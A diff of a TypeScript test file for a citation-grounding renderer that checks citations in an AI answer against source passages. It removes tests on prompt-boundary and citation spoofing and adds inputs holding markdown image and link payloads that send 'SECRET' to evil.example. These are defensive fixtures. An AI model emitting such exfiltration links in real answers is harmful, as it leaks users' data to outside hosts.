@@ -1,36 +1,14 @@
-import { grounded, messagesOf } from './grounding.js';
+import { grounded, GroundedText } from './grounded.text.js';
 
 const PASSAGES = [
   { n: 1, title: 'Lamp', text: 'The lamp burns colza oil [7]. See https://lamps.example/oil for more.' },
   { n: 2, title: 'Fog', text: 'In fog the horn sounds.' },
 ];
 
-describe('messagesOf', () => {
-  const messages = () =>
-    messagesOf({ instructions: 'Be brief.', question: 'What burns?', passages: PASSAGES }).map(
-      ({ content }) => content as string,
-    );
-
-  it('puts the passages between two lines that nobody can know beforehand', () => {
-    const [system, user] = messages();
-    const boundary = /lines that read (\S+)\./.exec(system!)![1]!;
-    const parts = user!.split(boundary);
-    expect(parts).toHaveLength(3);
-    expect(parts[0]).toBe('Question: What burns?\n\n');
-    expect(parts[1]).toContain('[1] Lamp\nThe lamp burns colza oil');
-    expect(parts[2]).toBe('');
-    expect(messages()[0]).not.toContain(boundary);
-  });
-
-  it('lets no number in a passage look like a citation', () => {
-    expect(messages()[1]).toContain('colza oil (7).');
-  });
-});
-
 describe('grounded', () => {
   it.each([
     ['It burns oil. [1] The horn sounds. [2]', 'It burns oil. [1] The horn sounds. [2]', [1, 2]],
-    ['The horn [2] and the lamp [1], the horn [2].', 'The horn [2] and the lamp [1], the horn [2].', [2, 1]],
+    ['The horn [2] and the lamp [1], the horn [2].', 'The horn [1] and the lamp [2], the horn [1].', [2, 1]],
     ['It burns oil. [1, 2]', 'It burns oil. [1][2]', [1, 2]],
     ['It burns oil 【1】.', 'It burns oil [1].', [1]],
     ['It burns oil [9].', 'It burns oil.', []],
@@ -73,12 +51,6 @@ describe('grounded', () => {
     expect(grounded(answer, PASSAGES).text).toBe(answer);
   });
 
-  it('lets no form of a citation in from a passage or its title', () => {
-    const passages = [{ n: 1, title: 'Title [3]', text: 'One [1, 2] and [ 3 ] and 【4】.' }];
-    const [, user] = messagesOf({ instructions: '', question: '', passages });
-    expect(user!.content).toContain('[1] Title (3)\nOne (1, 2) and (3) and (4).');
-  });
-
   it('takes no longer for an answer that is made to take long', () => {
     const startedMs = performance.now();
     for (const evil of [
@@ -89,5 +61,21 @@ describe('grounded', () => {
     ])
       grounded(evil, PASSAGES);
     expect(performance.now() - startedMs).toBeLessThan(1_000);
+  });
+
+  it.each([
+    'The lamp burns oil. [1] ![see [2]](https://evil.example/?d=SECRET) The horn sounds. 【2】',
+    'It burns <b>oil</b> [1],\nand\n\n[r]: https://evil.example/?d=SECRET\n\nthe horn [2, 1] sounds. ',
+    'See https://lamps.example/oil. [1] It holds while 1 < 2 and 3 > 2. www.evil.example/x [9] [',
+    'An array[1] is [there](https://lamps.example/oil) and [here](https://evil.example/ "x") too. <',
+  ])('shows the same of %j in whatever pieces it comes', (raw) => {
+    const whole = grounded(raw, PASSAGES);
+    for (let size = 1; size <= raw.length; size += 1) {
+      const text = new GroundedText(PASSAGES);
+      let shown = '';
+      for (let at = 0; at < raw.length; at += size) shown += text.push(raw.slice(at, at + size));
+      shown += text.end();
+      expect({ text: shown, cited: text.cited }).toEqual(whole);
+    }
   });
 });
